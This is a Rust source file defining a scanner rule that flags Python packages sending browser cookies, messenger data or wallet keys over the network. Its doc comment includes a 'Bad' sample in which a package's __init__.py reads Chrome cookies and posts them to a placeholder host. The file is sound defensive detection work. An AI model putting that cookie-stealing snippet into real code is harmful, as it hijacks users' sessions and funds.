//! ## What it detects
//!
//! What was read from browsers, messengers or wallets, or a wallet's key that a caller has handed over, sent over the network as data.
//!
//! ## Why it is bad
//!
//! Cookies are sessions, and phrases are money. Whoever asks for the function doesn't ask for that.
//!
//! ## Innocent lookalikes
//!
//! Downloaders sign in with the cookies of a browser: those go back to where they belong, as cookies and not as data.
//!
//! ## Bad
//!
//! ```python x/__init__.py
//! import browser_cookie3, requests
//! def warm_up():
//!     jar = browser_cookie3.chrome()
//!     requests.post('http://x.example.invalid', json={c.name: c.value for c in jar})
//! ```
//!
//! ## Good
//!
//! ```python x/__init__.py
//! import browser_cookie3, requests
//! def page():
//!     return requests.get('http://x.example.invalid', cookies=browser_cookie3.chrome())
//! ```

use fondaco_python::{Call, Taint, signs_in};
use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity};

use super::secret_exfiltration::of;
use crate::sending::sent;
use crate::{Hits, Package, Rule};

pub(crate) const RULE: Rule = Rule {
    id: RuleId::new("browser-exfiltration"),
    title: "sends what browsers and wallets keep",
    severity: Severity::Critical,
    confidence: Confidence::High,
    behaviour: Some(Behaviour::Exfiltration),
    weight: 2.0,
    check,
};

fn check(package: &Package<'_>, hits: &mut Hits) {
    for (unit, call) in package.calls().filter(|(_, call)| sends_it(call)) {
        hits.call(unit, call, format!("{} of what a browser or wallet keeps", call.callee));
    }
}

fn sends_it(call: &Call) -> bool {
    let carried = sent(call).any(|(name, value)| !signs_in(name) && of(value).has(Taint::BROWSER));
    carried && !call.callee.contains(".recv")
}
